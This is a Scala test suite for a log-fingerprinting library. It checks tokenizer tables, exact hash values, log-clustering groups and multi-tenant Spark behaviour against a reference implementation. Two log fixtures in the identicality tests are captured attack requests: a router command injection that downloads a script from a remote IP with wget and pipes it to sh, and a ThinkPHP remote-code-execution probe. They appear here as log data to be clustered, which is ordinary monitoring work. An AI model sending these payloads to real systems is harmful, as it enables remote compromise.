package graft

import org.scalatest.funsuite.AnyFunSuite
import graft.ops.FingerprintCompat
import graft.ops.FingerprintCompat._

/** Parity gates for [[graft.ops.FingerprintCompat]] against the
  * reference fingerprinter's PUBLISHED behavior
  * (internal/oteltools/pkg/fingerprinter/fingerprinter_test.go):
  * the asserted token-sequence table, splitWords/IsWord/findJSONContent
  * unit tables, the three bit-exact JSON fingerprints, and the
  * cluster-identicality groups.
  */
class FingerprintCompatSpec extends AnyFunSuite {

  private def toks(input: String, maxTokens: Int = 15): (String, String) = {
    val (items, level, _) = tokenizeInput(input, maxTokens)
    (items.mkString(" "), level)
  }

  // --- the reference's asserted tokenize table (fingerprinter_test.go:47-315)

  test("tokenize: empty and plain words") {
    assert(toks("") == ("", ""))
    assert(toks("hello world") == ("hello world", ""))
  }

  test("tokenize: date/time/iso8601 placeholders") {
    assert(toks("2024-01-02") == ("<Date>", ""))
    assert(toks("2024/01/02") == ("<Date>", ""))
    assert(toks("02/01/24") == ("<Date>", ""))
    assert(toks("14:54:12") == ("<Time>", ""))
    assert(toks("2024-01-02T14:54:12") == ("<ISO8601>", ""))
    assert(toks("2024-01-02T14:54:12Z") == ("<ISO8601>", ""))
    assert(toks("2024-01-02T14:54:12+01:00") == ("<ISO8601>", ""))
  }

  test("tokenize: uuid/ipv4/email/fqdn placeholders") {
    assert(toks("dddddddd-dddd-dddd-dddd-dddddddddddd") == ("<UUID>", ""))
    assert(toks("10.42.255.254") == ("<IPv4>", ""))
    assert(toks("alice@example.com") == ("<Email>", ""))
    assert(toks("alice_smith@example.com") == ("<Email>", ""))
    assert(toks("alice-smith@example.com") == ("<Email>", ""))
    assert(toks("alice+smith@example.com") == ("<Email>", ""))
    assert(toks("alice.smith@example.com") == ("<Email>", ""))
    assert(toks("example.com") == ("<FQDN>", ""))
  }

  test("tokenize: paths") {
    assert(toks(" /api/v10/endpoint") == ("<Path>", ""))
    assert(toks("bob /api/v10/endpoint") == ("bob <Path>", ""))
    assert(toks("/api/v1/endpoint?query=foo&bar=baz") == ("<Path>", ""))
  }

  test("tokenize: k=v worker lines (reference test cases 1-2)") {
    assert(toks("2024-12-14T00:46:28.852Z pid=9 tid=12msap class=SearchSyncWorker jid=96322f73c635d6812fd60163 INFO: start")
      == ("<ISO8601> <Number> tid <Identifier> <Loglevel> start", "info"))
    assert(toks("2024-12-14T00:46:28.852Z pid=9 tid=12xsap class=SearchSyncWorker jid=96322f73c635d6812fd60163 INFO: start")
      == ("<ISO8601> <Number> tid <Identifier> <Loglevel> start", "info"))
  }

  test("tokenize: java-style app log (reference sample log 1)") {
    assert(toks("2024-04-17 00:37:23.147 ERROR 1 --- [lt-dispatcher-5] c.g.d.TelemetryEmitter : Received error code 400, endpoint = /api/v10/endpoint")
      == ("<Date> <Time> <Loglevel> <Number> <Identifier> received error code <Number> endpoint <Path>", "error"))
  }

  test("tokenize: kafka listener lines (reference sample logs 2-3)") {
    assert(toks("\tadvertised.listeners = CLIENT://kafka-kraft-broker-0.kafka-kraft-broker-headless.default.svc.cluster.local:9092,INTERNAL://kafka-kraft-broker-0.kafka-kraft-broker-headless.default.svc.cluster.local:9094\n")
      == ("<FQDN> <Url> <Url>", ""))
    assert(toks("   foo = CLIENT://:1234,INTERNAL://:5678")
      == ("foo <Url> <Url>", ""))
  }

  test("tokenize: quoted list (reference sample log 4)") {
    assert(toks("Receive ListRecommendations for product ids:['OLJCESPC7Z', '6E92ZMYYFZ', '1YMWWN1N4O', 'L9ECAV7KIM', '2ZYFJ3GM2N']")
      == ("receive listrecommendations for product <Identifier> <List>", ""))
  }

  test("tokenize: standalone quoted strings become <QuotedString>, in order") {
    // the placeholder rule must outrank Identifier (a tie would drop the
    // token as a non-word); quoted values land as positional placeholders
    assert(toks("""user "abc xyz" in 42ms""") ==
      ("user <QuotedString> in <Duration>", ""))
    assert(toks("""request "a" for "b" from bob""") ==
      ("request <QuotedString> for <QuotedString> from bob", ""))
  }

  test("tokenize: go module, newline truncation, mixed json") {
    assert(toks("chqs3exporter@v0.31.0/exporter.go:142") == ("<ModuleName>", ""))
    assert(toks("2024-06-16T18:37:46.053Z\tinfo\tchqs3exporter@v0.31.0/exporter.go:142\tWrote buffer\n15 lines written to file foo.bar")
      == ("<ISO8601> <Loglevel> <ModuleName> wrote buffer", "info"))
    val (items, level, keys) = tokenizeInput(
      "2024-06-16T18:37:46.053Z\tinfo\tchqs3exporter@v0.31.0/exporter.go:142\tWrote buffer\t" +
        """{"kind": "exporter", "data_type": "traces", "name": "chqs3/chqside", "telemetryType": "traces", "timebox": 1718562910000, "prefix": "traces_1718562910000", "rows": 398}""")
    assert(items.mkString(" ") == "<ISO8601> <Loglevel> <ModuleName> wrote buffer")
    assert(level == "info")
    assert(keys == Seq("data_type", "kind", "name", "prefix", "rows",
      "telemetryType", "timebox"))
  }

  test("tokenize: big JSON body — level+message fusion, deep sorted keys") {
    val input =
      """{
        |  "level": "INFO",
        |  "time": "2024-06-16T18:41:32.309Z",
        |  "pid": 1,
        |  "hostname": "license-service-67665d5cbc-kxjwm",
        |  "req": {
        |    "id": 10498845,
        |    "method": "GET",
        |    "url": "/license/validate/SLWHPA",
        |    "query": {},
        |    "params": {},
        |    "headers": {
        |      "host": "license-service.movies-demo.svc.cluster.local:3000",
        |      "connection": "keep-alive",
        |      "x-datadog-trace-id": "7967234482582441354",
        |      "x-datadog-parent-id": "7099643630873179430",
        |      "x-datadog-sampling-priority": "1",
        |      "x-datadog-tags": "_dd.p.dm=-1,_dd.p.tid=666f31dc00000000",
        |      "traceparent": "00-666f31dc000000006e914d8cb891cd8a-628700444a0f7526-01",
        |      "tracestate": "dd=s:1;p:628700444a0f7526;t.dm:-1;t.tid:666f31dc00000000",
        |      "accept": "*/*",
        |      "accept-language": "*",
        |      "sec-fetch-mode": "cors",
        |      "user-agent": "node",
        |      "accept-encoding": "gzip, deflate"
        |    },
        |    "remoteAddress": "::ffff:10.0.7.2",
        |    "remotePort": 45536
        |  },
        |  "msg": "Received license validation request for movieId=SLWHPA"
        |}""".stripMargin
    val (items, level, keys) = tokenizeInput(input)
    assert(items.mkString(" ") ==
      "inforeceived license validation request for movieid <Identifier>")
    assert(level == "info")
    assert(keys == Seq(
      "hostname", "level", "msg", "pid",
      "req.headers.accept", "req.headers.accept-encoding",
      "req.headers.accept-language", "req.headers.connection",
      "req.headers.host", "req.headers.sec-fetch-mode",
      "req.headers.traceparent", "req.headers.tracestate",
      "req.headers.user-agent", "req.headers.x-datadog-parent-id",
      "req.headers.x-datadog-sampling-priority", "req.headers.x-datadog-tags",
      "req.headers.x-datadog-trace-id", "req.id", "req.method",
      "req.remoteAddress", "req.remotePort", "req.url", "time"))
  }

  // --- splitWords / isWord / findJSONContent unit tables

  test("splitWords matches the reference table") {
    assert(splitWords("") == Seq.empty)
    assert(splitWords("hello_world") == Seq("hello", "world"))
    assert(splitWords("helloWorld") == Seq("hello", "world"))
    assert(splitWords("HelloWorld") == Seq("hello", "world"))
    assert(splitWords("hello_world_this_is_a_test") ==
      Seq("hello", "world", "this", "is", "a", "test"))
    assert(splitWords("helloWorldThisIsATest") ==
      Seq("hello", "world", "this", "is", "a", "test"))
    assert(splitWords("HelloWorldThisIsATest") ==
      Seq("hello", "world", "this", "is", "a", "test"))
    assert(splitWords("THISIsATest") ==
      Seq("t", "h", "i", "s", "is", "a", "test"))
  }

  test("isWord matches the reference table") {
    assert(isWord("hello"))
    assert(!isWord("xyznonexistent"))
    assert(isWord("WORLD"))
    assert(isWord("HelloWorld"))
    assert(isWord("helloWorld"))
    assert(!isWord("hello baz"))
  }

  test("findJSONContent matches the reference table") {
    assert(findJSONContent("Hello, world!") == ("", "", ""))
    assert(findJSONContent("""Message: {"key": "value"} Extra""") ==
      ("Message: ", """{"key": "value"}""", " Extra"))
    assert(findJSONContent("""Prefix: {"key": "value"}""") ==
      ("Prefix: ", """{"key": "value"}""", ""))
    assert(findJSONContent("""{"key": "value"} Suffix""") ==
      ("", """{"key": "value"}""", " Suffix"))
    assert(findJSONContent("""{"key": "value"}""") ==
      ("", """{"key": "value"}""", ""))
    assert(findJSONContent("""Message: {"key": {"nested": "value"}} Extra""") ==
      ("Message: ", """{"key": {"nested": "value"}}""", " Extra"))
  }

  // --- BIT-EXACT: the three published JSON fingerprints
  // (fingerprinter_test.go:735-760). These pin xxh64, the token items,
  // AND the sorted deep-key order simultaneously.

  test("JSON fingerprints are bit-exact against the reference's published values") {
    val cm = new TrieClusterManager(0.5)
    assert(fingerprint("""{"msg": "alice bob", "key": "value"}""", cm)._1 ==
      -4799080351441142732L)
    assert(fingerprint("""{"msg": "alice john", "user": {"id": 123, "name": "John Doe"}, "action": "login", "timestamp": "2024-06-16T18:41:32.309Z"}""", cm)._1 ==
      -1298215320945995457L)
    assert(fingerprint("""{"msg": "alice nancy", "user": {"id": 123, "name": "John Doe"}, "action": "login", "timestamp": "2024-06-16T18:41:32.309Z"}""", cm)._1 ==
      -4204312781059083134L)
  }

  test("xxh64 canonical vector") {
    assert(xxh64(Array.emptyByteArray) == 0xEF46DB3751D8E999L)
  }

  test("level extraction from mixed content") {
    val cm = new TrieClusterManager(0.5)
    val (fp, level) = fingerprint(
      "INFO Received request for /api/v1/endpoint from userId=12345", cm)
    assert(fp != 0L)
    assert(level == "info")
  }

  // --- identicality groups (TestFingerprintIdenticality): every member
  // of a group must land on the same cluster fingerprint

  private def assertIdentical(name: String, inputs: Seq[String]): Unit = {
    val cm = new TrieClusterManager(0.5)
    val fps = inputs.map(in => fingerprint(in, cm, maxTokens = 25)._1)
    assert(fps.distinct.size == 1,
      s"$name: expected one cluster, got ${fps.distinct.size} (${fps.mkString(",")})")
  }

  test("identicality: userId variants") {
    assertIdentical("simple", Seq(
      "INFO Received request for /api/v1/endpoint from userId=65431",
      "INFO Received request for /api/v1/endpoint from userId=12345"))
  }

  test("identicality: rails request lines with differing URLs") {
    assertIdentical("urlpaths", Seq(
      """[a0b0fa04-0423-4760-8757-cb0dc85f90d4] Started GET "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F103.163.215.73%2Fmoo+-O-+|+sh%60)" for 31.220.1.144 at 2025-01-13 17:26:27 +0000""",
      """[703060d9-20ef-4b3e-b161-65c637c4d88b] Started GET "/api/index.php/v1/config/application?public=true&page%5Boffset%5D=0&page%5Blimit%5D=60" for 66.63.187.168 at 2025-01-13 07:48:20 +0000""",
      """[482cab3b-ad79-4988-8fd7-0bf618489cd2] Started GET "/tickets/search?query=test" for 54.162.8.237 at 2025-01-13 18:10:58 +0000""",
      """[6f70bf33-6efe-496b-9359-346da9e2ddca] Started GET "/" for 18.188.222.160 at 2025-01-13 18:10:44 +0000""",
      """[7e258c35-89e2-4dd8-b7a4-9e5533111403] Started GET "/search/tickets?account_id=11&page=&per_page=&query=test" for 54.162.8.237 at 2025-01-13 07:49:29 +0000""",
      """[33e7b1c4-e224-42fb-8d47-659e9eb07d39] Started GET "/search/tickets?account_id=11&page=&per_page=&query=test" for 54.162.8.237 at 2025-01-13 18:10:34 +0000"""))
  }

  test("identicality: envoy access logs") {
    assertIdentical("http fetch log", Seq(
      """[2025-01-13T18:23:37.190Z] "GET /fcp/alb-health HTTP/1.1" 200 - via_upstream - "-" 0 0 0 0 "172.25.31.44" "ELB-HealthChecker/2.0" "1d297bf7-5284-4509-9953-905f42d79089" "172.25.27.114:8080" "172.25.27.204:15021" outbound|15021||istio-ingressgateway.istio-system.svc.cluster.local 172.25.27.114:32850 172.25.27.114:8080 172.25.31.44:3728 - -""",
      """[2025-01-13T18:22:44.634Z] "GET /search/tickets?account_id=11&page=&per_page=&query=test HTTP/1.1" 200 - via_upstream - "-" 0 2654 42 42 "54.162.8.237,172.25.19.220" "Typhoeus - https://github.com/typhoeus/typhoeus" "426808e9-6a3e-4017-a063-573fe11cc1fc" "search-service.freshstatus-sta91ng.io" "172.25.29.139:8181" outbound|80|BLUE|aiops-search.ams-aiops-search-staging.svc.cluster.local 172.25.27.114:51834 172.25.27.114:8080 172.25.19.220:4130 - -""",
      """[2025-01-12T19:16:00.058Z] "GET /public/index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello HTTP/1.1" 404 - via_upstream - "-" 0 0 2 2 "47.236.49.157,172.25.19.220" "Custom-AsyncHttpClient" "f85b6908-834d-451f-bb44-59dc10dcd02e" "34.225.43.120" "172.25.26.133:8181" outbound|80|BLUE|aiops-tickets.ams-aiops-tickets-staging.svc.cluster.local 172.25.27.204:60516 172.25.27.204:8080 172.25.19.220:13224 - -""",
      """[2025-01-13T07:54:30.125Z] "POST /search/tickets?account_id=11 HTTP/1.1" 201 - via_upstream - "-" 135 146 13 13 "54.162.8.237,172.25.19.220" "Typhoeus - https://github.com/typhoeus/typhoeus" "c7953b6b-02df-47bd-9970-b8325caca796" "search-service.freshstatus-sta91ng.io" "172.25.29.139:8181" outbound|80|BLUE|aiops-search.ams-aiops-search-staging.svc.cluster.local 172.25.27.114:51834 172.25.27.114:8080 172.25.19.220:15370 - -"""))
  }

  test("identicality: ruby hash parameters (=> JSON fallback)") {
    assertIdentical("ruby log 1", Seq(
      """[db1f5d56-8ba1-42e3-92ec-2267d6952f1d]   Parameters: {"title"=>"Sit sint voluptas quis.", "description"=>"Vel sunt quia. Esse sed laboriosam. Nesciunt quis velit.", "external_id"=>584672, "account_id"=>"11", "ticket"=>{"title"=>"Sit sint voluptas quis.", "description"=>"Vel sunt quia. Esse sed laboriosam. Nesciunt quis velit.", "external_id"=>584672}}""",
      """[2e041c15-5379-4a35-ab68-979fa36f4a95]   Parameters: {"title"=>"Vel beatae quia tenetur.", "description"=>"Non asperiores et. Minus dolore impedit. Quia fugit nihil.", "external_id"=>583052, "account_id"=>"11", "ticket"=>{"title"=>"Vel beatae quia tenetur.", "description"=>"Non asperiores et. Minus dolore impedit. Quia fugit nihil.", "external_id"=>583052}}""",
      """[4b872f76-e377-488a-837e-d9dc58e6449c]   Parameters: {"title"=>"Minus aut quia sapiente.", "description"=>"Eius ea quibusdam. Quis error qui. Sit nemo non.", "external_id"=>582086, "account_id"=>"11", "ticket"=>{"title"=>"Minus aut quia sapiente.", "description"=>"Eius ea quibusdam. Quis error qui. Sit nemo non.", "external_id"=>582086}}"""))
  }

  test("identicality: ANSI-colored SQL insert lines") {
    assertIdentical("ruby log 3", Seq(
      "[de5515ba-98a0-4c1d-be32-ae61152cb0b8]   [1m[36mTicket Create (1.8ms)[0m  [1m[32mINSERT INTO `tickets` (`title`, `description`, `external_id`, `account_id`, `created_at`, `updated_at`) VALUES ('Et dignissimos debitis voluptatum.', 'Omnis dolor error. Deleniti sint hic. Labore omnis id.', 585378, 11, '2025-01-13 17:42:43.050272', '2025-01-13 17:42:43.050272')[0m",
      "[5b3d31c9-7fc8-4b4b-a38f-b0bcf82434a6]   [1m[36mTicket Create (1.6ms)[0m  [1m[32mINSERT INTO `tickets` (`title`, `description`, `external_id`, `account_id`, `created_at`, `updated_at`) VALUES ('Occaecati illum voluptas quibusdam.', 'Excepturi tenetur non. Ullam incidunt expedita. Explicabo earum reiciendis.', 584719, 11, '2025-01-13 07:03:52.694513', '2025-01-13 07:03:52.694513')[0m"))
  }

  test("identicality: rails completion lines") {
    assertIdentical("ruby log 4", Seq(
      """[405feaa8-b91d-4367-b8cb-4a52c7f549a9] Completed 200 OK in 1118ms (Views: 0.0ms | ActiveRecord: 892.0ms (3 queries, 0 cached) | GC: 0.5ms)""",
      """[857c814b-b0f6-470e-88df-a9185079c765] Completed 200 OK in 37ms (Views: 1.8ms | ActiveRecord: 34.0ms (2 queries, 0 cached) | GC: 0.2ms)"""))
  }

  test("identicality: s3 error lines with base64 ids") {
    assertIdentical("specified key", Seq(
      """The specified key does not exist. (Service: Amazon S3; Status Code: 404; Error Code: NoSuchKey; Request ID: YGNRA466620F3JZ2; S3 Extended Request ID: i92XzeWekngbw+nl+99Pn6uUOADxsf1aVk/Mdu7RYxdfhXXl52ax9zzLNB02Z5FRS7kNe3+El3IG2z3H1C/fvO823H5QVWexLykYZGHt+7M=; Proxy: null)""",
      """The specified key does not exist. (Service: Amazon S3; Status Code: 404; Error Code: NoSuchKey; Request ID: YGNJ3ZWYAG1NHK4R; S3 Extended Request ID: FLs5T4nLTASwoIfL9w4N3jUsD+qM/GfeEP1yepSkMuVzBJ2C7R0cfKnWsfoekGxNr9oTcCM4pR1xF8hObhY1TppKzPkX70mn62bRFhD8DzY=; Proxy: null)""",
      """The specified key does not exist. (Service: Amazon S3; Status Code: 404; Error Code: NoSuchKey; Request ID: GQNDT8W5ZT2MDCXY; S3 Extended Request ID: DoEXTB+nKImWcRc2OW/xR6fNVvaaMzaGPpAedeS0qUoYnRXlWAfadnGF/XNqn3N1CqjYL2d2yDk=; Proxy: null)""",
      """The specified key does not exist. (Service: Amazon S3; Status Code: 404; Error Code: NoSuchKey; Request ID: 35RM8V8QXF53KQG4; S3 Extended Request ID: HDPgTMmPswV376FyTJyJwwHWrqWNxbTBWZJ8PB4P2GKoFuz7kMeuWImFJ0d45aivnfgPmdx4kqEGgv0uEGvGVWQB0JUeGMDq9rok1+l/IUA=; Proxy: null)"""))
  }

  // --- Spark surface

  test("fingerprintLines: template'd corpus clusters to template count; JSON rows bypass the trie") {
    import TestSpark._
    import spark.implicits._
    import org.apache.spark.sql.functions._
    val lines = (0 until 300).map { i =>
      (i % 3) match {
        case 0 => (i, s"INFO Received request for /api/v1/endpoint from userId=$i")
        case 1 => (i, s"ERROR order ${i}x7f rejected for user u$i after ${i % 40}ms")
        case 2 => (i, s"""{"msg": "alice bob", "key": "value", "n": $i}""")
      }
    }.toDF("id", "line")
    val out = FingerprintCompat.fingerprintLines(lines, col("line")).cache()
    // JSON rows: keys (key, msg, n) identical across rows -> ONE pure-hash fp
    val jsonFps = out.filter(col("id") % 3 === 2)
      .select("fpc_fingerprint").distinct().collect()
    assert(jsonFps.length == 1)
    // the two non-JSON templates cluster to one fp each
    assert(out.filter(col("id") % 3 === 0)
      .select("fpc_fingerprint").distinct().count() == 1)
    assert(out.filter(col("id") % 3 === 1)
      .select("fpc_fingerprint").distinct().count() == 1)
    // levels ride along
    assert(out.filter(col("id") % 3 === 0).select("fpc_level")
      .distinct().collect().map(_.getString(0)).toSeq == Seq("info"))
    out.unpersist()
  }

  test("tenant isolation: merge decisions never cross orgs (TenantManager semantics)") {
    import TestSpark._
    import spark.implicits._
    import org.apache.spark.sql.functions._
    val reg = new FingerprintCompat.TenantRegistry(0.5)
    val base = "INFO click request user=7 handled /api/v4/do?id=7 in 3ms"
    val ext = base + " retry"
    // org A sees the base template AND its extension -> the extension
    // Jaccard-merges into the base cluster. org B sees ONLY the
    // extension -> a fresh cluster in B's own trie (hash of the
    // extension's items). A shared trie would have merged B's too.
    val rows = Seq(("A", base), ("A", ext), ("B", ext)).toDF("org", "line")
    val out = FingerprintCompat
      .fingerprintLinesByOrg(rows, col("line"), col("org"), reg)
      .select("org", "line", "fpc_fingerprint").collect()
      .map(r => (r.getString(0), r.getString(1)) -> r.getLong(2)).toMap
    val baseItems = tokenizeInput(base)._1
    val extItems = tokenizeInput(ext)._1
    assert(out(("A", base)) == fingerprintHash(baseItems, Nil))
    assert(out(("A", ext)) == out(("A", base)), "extension did not merge in org A")
    assert(out(("B", ext)) == fingerprintHash(extItems, Nil),
      "org B's cluster leaked from org A's trie")
    assert(out(("B", ext)) != out(("A", ext)))
    assert(reg.size == 2)
  }

  test("per-tenant maxTemplates: a noisy tenant cannot evict a quiet tenant's templates") {
    import TestSpark._
    import spark.implicits._
    import org.apache.spark.sql.functions._
    val reg = new FingerprintCompat.TenantRegistry(0.5)
    // 10 high-count templates for the loud tenant (mutually non-mergeable:
    // distinct word triples share only <Loglevel> -> Jaccard 1/7); the
    // quiet tenant has two one-count templates that must Jaccard-merge.
    // Under the old GLOBAL count-desc cap of 3, the loud tenant's top-3
    // would consume the whole replay budget and the quiet tenant's
    // extension would silently lose its merge.
    val words = Seq("read", "write", "update", "delete", "open", "close",
      "send", "load", "save", "run", "check", "data", "file", "line", "log",
      "message", "event", "task", "queue", "batch", "cache", "memory",
      "disk", "thread", "process", "session", "client", "server", "host",
      "port")
    val loud = (0 until 10).flatMap { i =>
      val t = s"INFO ${words(3 * i)} ${words(3 * i + 1)} ${words(3 * i + 2)}"
      Seq.fill(20 - i)(("loud", t))
    }
    val base = "INFO click request user=7 handled /api/v4/do?id=7 in 3ms"
    val ext = base + " retry"
    val rows = (loud ++ Seq(("quiet", base), ("quiet", ext))).toDF("org", "line")
    val out = FingerprintCompat
      .fingerprintLinesByOrg(rows, col("line"), col("org"), reg, maxTemplates = 3)
      .select("org", "line", "fpc_fingerprint").distinct().collect()
      .map(r => (r.getString(0), r.getString(1)) -> r.getLong(2)).toMap
    val baseItems = tokenizeInput(base)._1
    // the quiet tenant's two templates both replay through its own trie
    assert(out(("quiet", base)) == fingerprintHash(baseItems, Nil))
    assert(out(("quiet", ext)) == out(("quiet", base)),
      "quiet tenant's extension lost Jaccard merging to a noisy neighbor")
    // the loud tenant's beyond-cap tail keeps exact per-sequence hashes
    val t9 = s"INFO ${words(27)} ${words(28)} ${words(29)}"
    assert(out(("loud", t9)) == fingerprintHash(tokenizeInput(t9)._1, Nil))
    assert(reg.size == 2)
  }

  test("SQL registry: fpc_tokenize callable from spark.sql") {
    import TestSpark._
    val r = spark.sql(
      """SELECT fpc_tokenize('2024-01-02T14:54:12Z INFO hello world') AS t""")
      .selectExpr("t.items", "t.level", "t.json_fp").head()
    assert(r.getSeq[String](0) == Seq("<ISO8601>", "<Loglevel>", "hello", "world"))
    assert(r.getString(1) == "info")
    assert(r.isNullAt(2))
  }

  test("fingerprintLines is deterministic across partitionings") {
    import TestSpark._
    import spark.implicits._
    import org.apache.spark.sql.functions._
    val lines = (0 until 200).map { i =>
      (i, s"worker ${i % 7} finished task t-$i in ${i % 90}ms with status ${if (i % 2 == 0) "ok" else "failed"}")
    }.toDF("id", "line")
    val a = FingerprintCompat.fingerprintLines(lines.repartition(1), col("line"))
      .select("id", "fpc_fingerprint").collect().map(r => (r.getInt(0), r.getLong(1))).sorted.toSeq
    val b = FingerprintCompat.fingerprintLines(lines.repartition(13), col("line"))
      .select("id", "fpc_fingerprint").collect().map(r => (r.getInt(0), r.getLong(1))).sorted.toSeq
    assert(a == b)
  }
}
